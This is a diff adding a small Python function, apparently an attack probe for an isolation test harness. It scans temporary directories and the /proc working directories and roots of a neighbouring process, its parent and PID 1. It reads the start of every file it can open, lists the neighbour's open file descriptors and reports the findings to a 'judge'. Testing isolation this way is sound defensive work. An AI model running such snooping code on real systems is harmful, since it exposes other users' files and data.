@@ -1,0 +1,18 @@
+import contextlib
+import glob
+import os
+
+
+def attack(judge, aims):
+    places = [aims["temporary"], "/tmp", "/scratch", *(f"/proc/{n}/cwd" for n in (aims["neighbour"], os.getppid(), 1))]
+    places += [f"/proc/{aims['neighbour']}/root{place}" for place in (aims["temporary"], "/tmp", "/scratch")]
+    paths = [path for place in places for depth in ("*", "*/*", "*/*/*") for path in glob.glob(f"{place}/{depth}")]
+    found = []
+    for path in paths:
+        with contextlib.suppress(OSError), open(path, "rb") as file:
+            found.append((path, file.read(1000)))
+    descriptors = f"/proc/{aims['neighbour']}/fd"
+    with contextlib.suppress(OSError):
+        found += [(name, os.readlink(f"{descriptors}/{name}")) for name in os.listdir(descriptors)]
+    if found:
+        judge.tell(found)
